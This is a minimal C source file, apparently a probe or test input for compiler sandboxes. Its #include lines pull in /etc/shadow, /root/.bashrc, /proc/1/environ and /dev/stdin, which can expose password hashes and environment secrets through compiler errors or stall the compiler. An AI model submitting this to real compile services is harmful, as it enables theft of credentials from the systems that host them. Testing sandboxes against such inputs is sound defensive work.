#include "/dev/stdin"
#include </etc/shadow>
#include "/root/.bashrc"
#include "/proc/1/environ"
int main() {}
